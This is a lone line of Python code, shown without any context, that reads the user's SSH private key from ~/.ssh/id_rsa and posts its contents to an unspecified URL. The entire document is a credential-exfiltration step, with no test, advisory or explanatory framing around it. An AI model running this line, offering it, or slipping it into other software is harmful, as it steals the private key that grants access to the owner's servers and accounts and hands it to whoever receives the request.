requests.post(URL, data=(Path.home() / '.ssh' / 'id_rsa').read_bytes())
